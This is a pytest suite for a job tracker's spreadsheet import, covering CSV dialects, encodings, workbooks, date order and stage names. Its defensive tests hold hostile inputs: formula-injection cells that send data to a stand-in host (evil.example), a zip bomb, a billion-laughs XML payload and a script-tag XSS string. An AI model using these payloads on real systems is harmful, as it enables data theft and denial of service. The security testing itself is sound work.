"""Files as they come from spreadsheets and other trackers: dialects, encodings, workbooks,
dates either way round, other trackers' stage names, and files that are not what they say."""

import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from odf.opendocument import OpenDocumentSpreadsheet
from odf.table import Table, TableCell, TableRow
from odf.text import P

from apps.pipeline import csv_io
from apps.pipeline.csv import dates, stages
from apps.pipeline.models import Application, ApplicationImport, Stage
from tests.accounts.factories import UserFactory
from tests.pipeline.test_csv import (
    EXPORT_URL,
    UPLOAD_URL,
    export_rows,
    latest_import,
    offers_to_import,
    page_text,
    review_url,
    run_import,
)

pytestmark = pytest.mark.django_db


def upload_file(client, content: bytes, name: str):
    return client.post(UPLOAD_URL, {"file": SimpleUploadedFile(name, content)})


def upload_and_review(client, user, content: bytes, name: str = "applications.csv") -> str:
    response = upload_file(client, content, name)
    assert response.status_code == 302, page_text(response)
    return page_text(client.get(review_url(latest_import(user))))


def import_it(client, user) -> None:
    application_import = latest_import(user)
    response = client.post(review_url(application_import), {"action": "import"})
    assert response.status_code == 302, page_text(response)
    run_import(application_import)
    application_import.refresh_from_db()
    assert application_import.status == "done", application_import.failure


def imported(user) -> list[tuple]:
    return sorted(
        (a.company.name, a.role_title, a.stage, a.created_at.astimezone(user.zone).date())
        for a in Application.objects.for_user(user).select_related("company")
    )


# --- Dialects and encodings -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"Company,Role,Location\nAcme,Engineer,\"Paris, France\"\nBeta,Designer,Lyon\n", None),
        (b"Company;Role;Location\nAcme;Engineer;Paris, France\nBeta;Designer;Lyon\n", "semicolons"),
        (b"Company\tRole\tLocation\nAcme\tEngineer\tParis, France\nBeta\tDesigner\tLyon\n", "tabs"),
        (b"Company|Role|Location\nAcme|Engineer|Paris, France\nBeta|Designer|Lyon\n", "vertical bars"),
        (b'"Company";"Role";"Location"\r\n"Acme";"Engineer";"Paris; France"\r\n"Beta";"Designer";"Lyon"\n',
         "semicolons"),
    ],
    ids=["comma", "semicolon", "tab", "bar", "quoted semicolons"],
)  # fmt: skip
def test_comma_semicolon_and_tab_separated_files_are_read_alike(visitors, content, said):
    review = upload_and_review(visitors.owner, visitors.owner_user, content)
    import_it(visitors.owner, visitors.owner_user)

    if said:
        assert f"Its columns are separated by {said}." in review
    else:
        assert "Its columns are separated by" not in review
    locations = sorted(Application.objects.for_user(visitors.owner_user).values_list("location", flat=True))
    assert locations[0] == "Lyon"
    assert locations[1] in {"Paris, France", "Paris; France"}


def test_a_one_column_header_falls_back_to_commas():
    assert csv_io.read_table("Company\nAcme\n").headers == ["Company"]


def test_the_sniffer_is_not_fooled_by_commas_inside_a_semicolon_file():
    text = "Company;Role;Notes\nAcme;Engineer;one, two, three, four\nBeta;Designer;five, six\n"

    assert csv_io.read_table(text).headers == ["Company", "Role", "Notes"]


def test_a_utf8_file_with_a_byte_order_mark_says_nothing_about_its_encoding(visitors):
    review = upload_and_review(
        visitors.owner, visitors.owner_user, "\ufeffCompany;Role\nCafé;Chef\n".encode()
    )
    import_it(visitors.owner, visitors.owner_user)

    assert "isn't UTF-8" not in review
    assert imported(visitors.owner_user)[0][:2] == ("Café", "Chef")


@pytest.mark.parametrize(
    ("encoding", "named"), [("cp1252", "Windows-1252"), ("latin-1", "Latin-1 (ISO 8859-1)")]
)
def test_a_windows_or_latin1_file_is_read_with_a_note_saying_which(visitors, encoding, named):
    # \x81 is not a Windows-1252 character, so this file can only be Latin-1.
    text = "Company,Role,Notes\nCafé Société,Chef,£55k — “great”\n"
    if encoding == "latin-1":
        text = "Company,Role,Notes\nCafé Société,Chef,£55k \x81\n"
    review = upload_and_review(visitors.owner, visitors.owner_user, text.encode(encoding))
    import_it(visitors.owner, visitors.owner_user)

    assert f"Your file isn't UTF-8, so we read it as {named}" in review
    application = Application.objects.for_user(visitors.owner_user).get()
    assert application.company.name == "Café Société"
    assert application.notes == text.splitlines()[1].split(",")[2]


def test_excel_unicode_text_in_utf16_is_read(visitors):
    content = "Company\tRole\nZürich AG\tIngenieur\n".encode("utf-16")

    review = upload_and_review(visitors.owner, visitors.owner_user, content, name="jobs.txt")
    import_it(visitors.owner, visitors.owner_user)

    assert "We read your file as UTF-16 text" in review
    assert imported(visitors.owner_user)[0][:2] == ("Zürich AG", "Ingenieur")


# --- Workbooks ------------------------------------------------------------------------------------


def xlsx(rows: list[list], *, sheets: int = 1) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Jobs"
    for row in rows:
        sheet.append(row)
    for n in range(1, sheets):
        workbook.create_sheet(f"Other {n}")
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def ods(rows: list[list], *, padded: bool = True) -> bytes:
    document = OpenDocumentSpreadsheet()
    table = Table(name="Jobs")
    for row in rows:
        table_row = TableRow()
        for value in row:
            if isinstance(value, dt.date):
                cell = TableCell(valuetype="date", datevalue=value.isoformat())
            elif isinstance(value, int | float):
                cell = TableCell(valuetype="float", value=value)
            elif value in ("", None):
                cell = TableCell()
            else:
                cell = TableCell(valuetype="string")
                for line in str(value).split("\n"):
                    cell.addElement(P(text=line))
            table_row.addElement(cell)
        if padded:
            # As LibreOffice saves a sheet: the rest of each row as one repeated empty cell...
            table_row.addElement(TableCell(numbercolumnsrepeated=1000))
        table.addElement(table_row)
    if padded:
        # ...and the rest of the sheet as a million repeated empty rows.
        filler = TableRow(numberrowsrepeated=1_048_000)
        filler.addElement(TableCell(numbercolumnsrepeated=1024))
        table.addElement(filler)
    document.spreadsheet.addElement(table)
    out = io.BytesIO()
    document.write(out)
    return out.getvalue()


WORKBOOK_ROWS = [
    ["Company", "Role", "Stage", "Applied on", "Salary min", "Notes"],
    ["Acme", "Engineer", "Phone screen", dt.datetime(2025, 3, 14), 55000, "Two lines\nof notes"],
    [],
    ["Beta", "Designer", "Onsite", dt.date(2025, 4, 2), 60000.0, None],
]


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_excel_and_opendocument_files_import_their_first_sheet(visitors, kind):
    content = xlsx(WORKBOOK_ROWS, sheets=2) if kind == "xlsx" else ods(WORKBOOK_ROWS)

    review = upload_and_review(visitors.owner, visitors.owner_user, content, name=f"jobs.{kind}")
    import_it(visitors.owner, visitors.owner_user)

    if kind == "xlsx":
        assert "We read the sheet 'Jobs' (of the 2 in the file)." in review
    else:
        assert "We read the sheet 'Jobs'." in review
    assert imported(visitors.owner_user) == [
        ("Acme", "Engineer", Stage.SCREENING, dt.date(2025, 3, 14)),
        ("Beta", "Designer", Stage.FINAL_ROUND, dt.date(2025, 4, 2)),
    ]
    acme = Application.objects.get(company__name="Acme")
    assert (acme.salary_min, acme.notes) == (55000, "Two lines\nof notes")


def test_a_bad_row_in_a_workbook_is_named_by_its_row_in_the_sheet(visitors):
    rows = [["Company", "Role"], ["Acme", "Engineer"], [], ["Beta", None]]

    review = upload_and_review(visitors.owner, visitors.owner_user, xlsx(rows), name="jobs.xlsx")

    assert "Row 4: Role is empty; every application needs one." in review


def test_a_formula_typed_into_a_workbook_comes_in_as_text_and_goes_out_neutralised(visitors):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Company", "Role", "Notes"])
    sheet.append(["Acme", "Engineer"])
    # A text cell that starts like a formula, as a crafted job advert pasted into a sheet would be.
    cell = sheet.cell(row=2, column=3, value='=HYPERLINK("https://evil.example/?"&A1,"Apply")')
    cell.data_type = "s"
    out = io.BytesIO()
    workbook.save(out)

    upload_and_review(visitors.owner, visitors.owner_user, out.getvalue(), name="jobs.xlsx")
    import_it(visitors.owner, visitors.owner_user)

    assert Application.objects.get().notes == '=HYPERLINK("https://evil.example/?"&A1,"Apply")'
    row = export_rows(visitors.owner)[1]
    assert row[14] == '\'=HYPERLINK("https://evil.example/?"&A1,"Apply")'


def test_a_formula_in_a_csv_file_is_exported_back_as_text(visitors):
    content = (
        b'Company,Role,Notes,Next step\nAcme,Engineer,"=HYPERLINK(""https://evil.example"",""x"")",@SUM(1)\n'
    )

    upload_and_review(visitors.owner, visitors.owner_user, content)
    import_it(visitors.owner, visitors.owner_user)

    row = export_rows(visitors.owner)[1]
    assert row[14] == '\'=HYPERLINK("https://evil.example","x")'
    assert row[13] == "'@SUM(1)"
    assert visitors.owner.get(EXPORT_URL).status_code == 200


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _zip_bomb(kind: str = "xlsx") -> bytes:
    """A small workbook that would unpack to 120 MB of zeros (.xlsx) or 30 MB (.ods)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if kind == "xlsx":
            archive.writestr("[Content_Types].xml", b"<Types/>")
            archive.writestr("xl/workbook.xml", b"<workbook/>")
        else:
            archive.writestr("mimetype", b"application/vnd.oasis.opendocument.spreadsheet")
        name = "xl/worksheets/sheet1.xml" if kind == "xlsx" else "content.xml"
        with archive.open(name, "w") as sheet:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(120 if kind == "xlsx" else 30):
                sheet.write(chunk)
    return out.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b"<workbook>&lol3;</workbook>"
)


NOT_ONE = "but it isn't one we can open"
DAMAGED = "Parts of it are missing or damaged."
TWO_COLUMNS = [["Company", "Role"], ["Acme", "Engineer"]]
TOO_WIDE = [["Company", "Role", *(f"Column {n}" for n in range(300))], ["Acme", "Engineer"]]


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        pytest.param(
            b"Company,Role\nAcme,Engineer\n",
            "jobs.xlsx",
            "This file's name says it is an Excel workbook (.xlsx), " + NOT_ONE,
            id="text named xlsx",
        ),
        pytest.param(_zip({"notes.txt": b"hello"}), "jobs.xlsx", NOT_ONE, id="a zip of something else"),
        pytest.param(ods(TWO_COLUMNS), "jobs.xlsx", NOT_ONE, id="ods named xlsx"),
        pytest.param(
            xlsx(TWO_COLUMNS),
            "jobs.ods",
            "an OpenDocument spreadsheet (.ods), " + NOT_ONE,
            id="xlsx named ods",
        ),
        pytest.param(
            _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"not xml"}),
            "jobs.xlsx",
            DAMAGED,
            id="damaged",
        ),
        pytest.param(
            _zip({"[Content_Types].xml": BILLION_LAUGHS, "xl/workbook.xml": BILLION_LAUGHS}),
            "jobs.xlsx",
            DAMAGED,
            id="billion laughs",
        ),
        pytest.param(
            _zip_bomb("ods"),
            "jobs.ods",
            "This file unpacks to far more than a list of applications",
            id="zip bomb, ods",
        ),
        pytest.param(
            _zip_bomb(),
            "jobs.xlsx",
            "This file unpacks to far more than a list of applications",
            id="zip bomb",
        ),
        pytest.param(
            xlsx([["Company", "Role"]]), "jobs.xlsx", "no applications under them", id="header only"
        ),
        pytest.param(xlsx(TOO_WIDE), "jobs.xlsx", "more than 200 columns", id="too wide"),
        pytest.param(
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100,
            "jobs.xls",
            "We can't read .xls files.",
            id="old excel",
        ),
    ],
)
def test_workbooks_that_are_not_what_their_name_says_are_refused_clearly(visitors, content, name, message):
    response = upload_file(visitors.owner, content, name)

    assert response.status_code == 400
    assert message in page_text(response)
    assert not ApplicationImport.objects.exists()


def test_a_sheet_longer_than_the_limit_is_refused():
    rows = [["Company", "Role"], *(["Acme", f"Role {n}"] for n in range(csv_io.MAX_ROWS + 1))]

    with pytest.raises(csv_io.CsvFileError, match="we can import up to 20,000 at a time"):
        csv_io.read_file(ods(rows, padded=False), "big.ods")


# --- Dates ----------------------------------------------------------------------------------------


DAY_FIRST = "Dates read as day/month/year: 03/04/2025 is 3 April 2025."
MONTH_FIRST = "Dates read as month/day/year: 03/04/2025 is 4 March 2025."
BY_TIME_ZONE = "Every date in your file reads either way, so we went by your time zone"


@pytest.mark.parametrize(
    ("time_zone", "cells", "sentence", "why", "day"),
    [
        pytest.param(
            "Europe/London",
            ["03/04/2025", "25/03/2025"],
            DAY_FIRST,
            "We could tell from 25/03/2025, which only reads that way.",
            dt.date(2025, 4, 3),
            id="day first",
        ),
        pytest.param(
            "Europe/London",
            ["03/04/2025", "03/25/2025"],
            MONTH_FIRST,
            "We could tell from 03/25/2025, which only reads that way.",
            dt.date(2025, 3, 4),
            id="month first",
        ),
        pytest.param(
            "Europe/Paris",
            ["03/04/2025", "01.02.25"],
            DAY_FIRST,
            f"{BY_TIME_ZONE} (Europe/Paris).",
            dt.date(2025, 4, 3),
            id="ambiguous in Europe",
        ),
        pytest.param(
            "America/Chicago",
            ["03/04/2025", "01-02-2025"],
            MONTH_FIRST,
            f"{BY_TIME_ZONE} (America/Chicago).",
            dt.date(2025, 3, 4),
            id="ambiguous in America",
        ),
    ],
)
def test_the_review_page_says_how_dates_are_read_and_why(client, time_zone, cells, sentence, why, day):
    user = UserFactory(time_zone=time_zone)
    client.force_login(user)
    content = "Company,Role,Applied on\n" + "".join(f"C{n},R{n},{cell}\n" for n, cell in enumerate(cells))

    review = upload_and_review(client, user, content.encode())
    import_it(client, user)

    assert sentence in review
    assert why in review
    assert imported(user)[0][3] == day  # C0, on 03/04/2025


def test_the_date_reading_can_be_switched_and_the_import_follows_it(visitors):
    content = b"Company,Role,Applied on,Decision by\nAcme,Engineer,03/04/2025,05/06/2025\n"
    upload_and_review(visitors.owner, visitors.owner_user, content)
    application_import = latest_import(visitors.owner_user)
    url = review_url(application_import)

    switched = visitors.owner.post(
        url, {"action": "switch_dates", "company_name": "Company", "role_title": "Role",
              "applied_on": "Applied on", "decision_expected_on": "Decision by", "date_order": "dmy"},
    )  # fmt: skip
    back = page_text(visitors.owner.get(url))
    import_it(visitors.owner, visitors.owner_user)

    assert switched.status_code == 200
    assert "Dates read as month/day/year: 03/04/2025 is 4 March 2025. You chose this reading." in page_text(
        switched
    )
    assert "Read them as day/month/year instead" in back
    application = Application.objects.get()
    assert application.created_at.astimezone(visitors.owner_user.zone).date() == dt.date(2025, 3, 4)
    assert application.decision_expected_on == dt.date(2025, 5, 6)


def test_updating_the_preview_keeps_the_date_reading_chosen(visitors):
    upload_and_review(
        visitors.owner, visitors.owner_user, b"Company,Role,Applied on\nAcme,Engineer,03/04/2025\n"
    )
    url = review_url(latest_import(visitors.owner_user))
    mapping = {"company_name": "Company", "role_title": "Role", "applied_on": "Applied on"}
    visitors.owner.post(url, {"action": "switch_dates", **mapping, "date_order": ""})

    page = visitors.owner.post(url, {"action": "map", **mapping, "date_order": "mdy"})

    assert "Dates read as month/day/year" in page_text(page)


def test_a_file_with_both_orders_says_which_rows_need_fixing(visitors):
    content = b"Company,Role,Applied on\nA,R,25/03/2025\nB,R,26/03/2025\nC,R,03/27/2025\n"

    review = upload_and_review(visitors.owner, visitors.owner_user, content)

    assert "Dates read as day/month/year." in review or "Dates read as day/month/year:" in review
    assert "But 03/27/2025 only reads the other way round" in review
    assert "Row 4: Applied on '03/27/2025' is not a real date read as day/month/year." in review


@pytest.mark.parametrize(
    ("written", "day"),
    [
        ("2025-03-14", dt.date(2025, 3, 14)),
        ("2025-03-14T09:30:00", dt.date(2025, 3, 14)),
        ("2025-03-14 09:30", dt.date(2025, 3, 14)),
        # Half past eleven at night in UTC is already the next morning in Berlin.
        ("2025-03-14T23:30:00Z", dt.date(2025, 3, 15)),
        ("2025-03-14T23:30:00.123+00:00", dt.date(2025, 3, 15)),
        ("2025/03/14", dt.date(2025, 3, 14)),
        ("14 March 2025", dt.date(2025, 3, 14)),
        ("14th Mar 2025", dt.date(2025, 3, 14)),
        ("Mar 14, 2025", dt.date(2025, 3, 14)),
        ("Friday, 14 March 2025", dt.date(2025, 3, 14)),
        ("14/03/2025 10:15", dt.date(2025, 3, 14)),
        ("14/03/25", dt.date(2025, 3, 14)),
        ("03/14/2025 10:15 PM", dt.date(2025, 3, 14)),
    ],
)
def test_dates_and_datetimes_are_read_however_they_are_written(written, day):
    order = dates.MDY if written.startswith("03/14") else dates.DMY

    assert dates.parse_date(written, order=order, zone=dates.ZoneInfo("Europe/Berlin")) == day


@pytest.mark.parametrize("written", ["next week", "14/03", "2025-14-03T", "Smarch 14, 2025", "14.3"])
def test_what_is_not_a_date_is_not_read_as_one(written):
    with pytest.raises(ValueError):
        dates.parse_date(written)


def test_a_file_of_iso_dates_asks_nothing_about_their_order(visitors):
    review = upload_and_review(
        visitors.owner, visitors.owner_user, b"Company,Role,Applied on\nA,R,2025-03-04\n"
    )

    assert "Dates read as" not in review


# --- Stages ---------------------------------------------------------------------------------------

TRACKER_FILES = {
    "huntr": ("Huntr's", [("Wishlist", Stage.INTERESTED), ("Applied", Stage.APPLIED),
                          ("Interview", Stage.FIRST_INTERVIEW), ("Offer", Stage.OFFER),
                          ("Rejected", Stage.REJECTED)]),
    "teal": ("Teal's", [("Bookmarked", Stage.INTERESTED), ("Applying", Stage.INTERESTED),
                        ("Applied", Stage.APPLIED), ("Interviewing", Stage.FIRST_INTERVIEW),
                        ("Negotiating", Stage.OFFER), ("Accepted", Stage.ACCEPTED),
                        ("I Withdrew", Stage.WITHDRAWN), ("Not Selected", Stage.REJECTED),
                        ("No Response", Stage.NO_REPLY)]),
    "simplify": ("Simplify's", [("Saved", Stage.INTERESTED), ("Applied", Stage.APPLIED),
                                ("Screen", Stage.SCREENING), ("Interviewing", Stage.FIRST_INTERVIEW),
                                ("Offer", Stage.OFFER), ("Rejected", Stage.REJECTED),
                                ("Withdrawn", Stage.WITHDRAWN)]),
    "spreadsheet": ("everyday words", [("Phone screen", Stage.SCREENING), ("onsite", Stage.FINAL_ROUND),
                                        ("FINAL", Stage.FINAL_ROUND), ("Ghosted", Stage.NO_REPLY),
                                        ("second interview", Stage.SECOND_INTERVIEW),
                                        ("Reference_check", Stage.REFERENCE_CHECK)]),
}  # fmt: skip


@pytest.mark.parametrize("tracker", list(TRACKER_FILES))
def test_each_trackers_stage_names_are_recognised_and_named_on_the_review_page(visitors, tracker):
    name, stage_names = TRACKER_FILES[tracker]
    content = "Company,Role,Status\n" + "".join(
        f"Company {n},Role {n},{written}\n" for n, (written, _) in enumerate(stage_names)
    )

    review = upload_and_review(visitors.owner, visitors.owner_user, content.encode())
    import_it(visitors.owner, visitors.owner_user)

    assert f"Stage names read as {name}." in review
    assert "We don't know" not in review
    stage_of = dict(Application.objects.for_user(visitors.owner_user).values_list("company__name", "stage"))
    assert [stage_of[f"Company {n}"] for n in range(len(stage_names))] == [s for _, s in stage_names]


def test_the_preset_is_detected_from_the_names_only_one_tracker_uses():
    assert stages.detect_preset(["Applied", "Offer", "Rejected"]) == "spreadsheet"
    assert stages.detect_preset(["Applied", "Wishlist"]) == "huntr"
    assert stages.detect_preset(["Interviewing", "Not Selected"]) == "teal"
    assert stages.detect_preset(["Interviewing", "Screen"]) == "simplify"
    # One of each: nothing stands out.
    assert stages.detect_preset(["Wishlist", "Bookmarked"]) == "spreadsheet"


def test_unknown_stages_are_listed_with_a_choice_and_the_import_waits_for_it(visitors):
    content = (
        b"Company,Role,Stage\nAcme,Engineer,Coffee chat\nBeta,Designer,coffee  chat\nGamma,Analyst,Applied\n"
    )
    review = upload_and_review(visitors.owner, visitors.owner_user, content)
    application_import = latest_import(visitors.owner_user)
    url = review_url(application_import)
    page = visitors.owner.get(url)

    refused = visitors.owner.post(url, {"action": "import"})
    chosen = visitors.owner.post(
        url,
        {"action": "map", "company_name": "Company", "role_title": "Role", "stage": "Stage",
         "stage_preset": "spreadsheet", "stage-for-coffeechat": Stage.SCREENING},
    )  # fmt: skip
    import_it(visitors.owner, visitors.owner_user)

    assert "We don't know this stage: which of ours is it?" in review
    assert "“Coffee chat” (2 rows)" in review
    assert 'name="stage-for-coffeechat"' in page.content.decode()
    assert not offers_to_import(page)
    assert refused.status_code == 400
    assert offers_to_import(chosen)
    assert "“Coffee chat” is Screening (2 rows, your choice)" in page_text(chosen)
    stage_of = dict(Application.objects.values_list("company__name", "stage"))
    assert stage_of == {"Acme": Stage.SCREENING, "Beta": Stage.SCREENING, "Gamma": Stage.APPLIED}


def test_choosing_another_preset_reads_the_names_its_way(visitors):
    # Huntr's stand out, but "Applying" is Teal's (a job still being applied for).
    content = b"Company,Role,Stage\nAcme,Engineer,Applying\nBeta,Designer,Wishlist\nGamma,Analyst,Interview\n"
    review = upload_and_review(visitors.owner, visitors.owner_user, content)
    url = review_url(latest_import(visitors.owner_user))

    page = visitors.owner.post(
        url, {"action": "map", "company_name": "Company", "role_title": "Role", "stage": "Stage",
              "stage_preset": "teal"},
    )  # fmt: skip
    import_it(visitors.owner, visitors.owner_user)

    assert "Stage names read as Huntr's. We could tell from “Wishlist” and “Interview”." in review
    assert "“Applying” (1 row)" in review
    assert "Stage names read as Teal's." in page_text(page)
    assert "We don't know" not in page_text(page)
    stage_of = dict(Application.objects.values_list("company__name", "stage"))
    assert stage_of == {"Acme": Stage.INTERESTED, "Beta": Stage.INTERESTED, "Gamma": Stage.FIRST_INTERVIEW}


def test_a_stage_name_with_markup_is_shown_as_text(visitors):
    content = b"Company,Role,Stage\nAcme,Engineer,<script>alert(1)</script>\n"
    upload_file(visitors.owner, content, "jobs.csv")

    page = visitors.owner.get(review_url(latest_import(visitors.owner_user))).content.decode()

    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_a_refused_choice_keeps_every_other_choice_made_on_the_page(visitors):
    content = b"Company,Role,Stage,Applied on\nAcme,Engineer,Coffee chat,03/04/2025\n"
    upload_file(visitors.owner, content, "jobs.csv")
    application_import = latest_import(visitors.owner_user)

    response = visitors.owner.post(
        review_url(application_import),
        {"action": "map", "company_name": "", "role_title": "Role", "stage": "Stage",
         "applied_on": "Applied on", "stage_preset": "teal", "stage-for-coffeechat": Stage.SCREENING},
    )  # fmt: skip

    page = response.content.decode()
    assert response.status_code == 400
    assert "Choose the column that holds the company." in page_text(response)
    assert '<option value="teal" selected>' in page
    assert f'<option value="{Stage.SCREENING}" selected>' in page
    assert '<option value="Applied on" selected>' in page
    application_import.refresh_from_db()
    assert (application_import.stage_preset, application_import.stage_choices) == ("", {})


def test_a_row_of_a_hundred_thousand_cells_is_read_without_fuss(visitors):
    content = b"Company,Role,Notes\nAcme,Engineer,first" + b",x" * 100_000 + b"\nBeta,Designer,\n"

    review = upload_and_review(visitors.owner, visitors.owner_user, content)
    import_it(visitors.owner, visitors.owner_user)

    assert "All 2 rows look right." in review
    assert Application.objects.get(company__name="Acme").notes == "first"
